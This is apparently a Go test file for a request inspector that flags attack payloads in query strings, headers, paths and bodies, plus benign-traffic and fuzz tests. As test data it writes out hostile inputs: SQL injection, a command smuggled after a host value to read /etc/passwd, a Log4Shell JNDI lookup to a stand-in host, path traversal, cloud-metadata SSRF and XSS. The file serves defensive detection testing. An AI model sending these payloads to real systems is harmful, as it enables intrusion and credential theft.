package actors

import "testing"

func TestInspectFindsPayloadsEverywhere(t *testing.T) {
	tests := []struct {
		name    string
		path    string
		query   string
		headers [][2]string
		body    string
		want    string
		where   string
	}{
		{"sql in query", "/api/users", "id=1%27%20OR%201%3D1--", nil, "", SQL, "query parameter id"},
		{"union select", "/api/users", "q=1+UNION+ALL+SELECT+username,password+FROM+users", nil, "", SQL, "query parameter q"},
		{"time based", "/api/users", "", nil, `{"name":"x'; SELECT pg_sleep(5)--"}`, SQL, "body"},
		{"command", "/api/ping", "host=127.0.0.1;cat%20/etc/passwd", nil, "", Command, "query parameter host"},
		{"template", "/api/greet", "name={{7*7}}", nil, "", Template, "query parameter name"},
		{"log4shell", "/", "", [][2]string{{"User-Agent", "${jndi:ldap://x.test/a}"}}, "", Template, "header User-Agent"},
		{"traversal in path", "/files/..%2f..%2fetc%2fpasswd", "", nil, "", Traversal, "path"},
		{"double encoded", "/files", "f=%252e%252e%252fetc%252fpasswd", nil, "", Traversal, "query parameter f"},
		{"ssrf", "/api/fetch", "url=http://169.254.169.254/latest/meta-data/", nil, "", SSRF, "query parameter url"},
		{"xss", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", nil, "", XSS, "query parameter q"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Inspect(tt.path, tt.query, tt.headers, []byte(tt.body))
			for _, f := range got {
				if f.Class == tt.want && f.Where == tt.where {
					return
				}
			}
			t.Errorf("got %+v, want %s in %s", got, tt.want, tt.where)
		})
	}
}

func TestInspectBenignTraffic(t *testing.T) {
	benign := []struct{ path, query, body string }{
		{"/api/v1/users", "page=2&per_page=30&sort=created_at,desc", ""},
		{"/api/v1/users/42", "", `{"email":"ann@corp.test","first_name":"Ann","bio":"Loves SQL and ordering by date."}`},
		{"/api/v1/search", "q=select%20a%20plan", ""},
		{"/api/v1/docs/getting-started", "lang=en-US", ""},
	}
	for _, b := range benign {
		if got := Inspect(b.path, b.query, [][2]string{{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"}}, []byte(b.body)); len(got) != 0 {
			t.Errorf("%s?%s: false positives %+v", b.path, b.query, got)
		}
	}
}

func FuzzInspect(f *testing.F) {
	f.Add("/a/../b", "x=%27%20or%201=1", "ua", "{}")
	f.Add("/%zz", "%%%", "\xff", "\x00")
	f.Fuzz(func(t *testing.T, path, query, ua, body string) {
		got := Inspect(path, query, [][2]string{{"User-Agent", ua}}, []byte(body))
		if len(got) > 32 {
			t.Fatalf("%d findings, bound is 32", len(got))
		}
	})
}
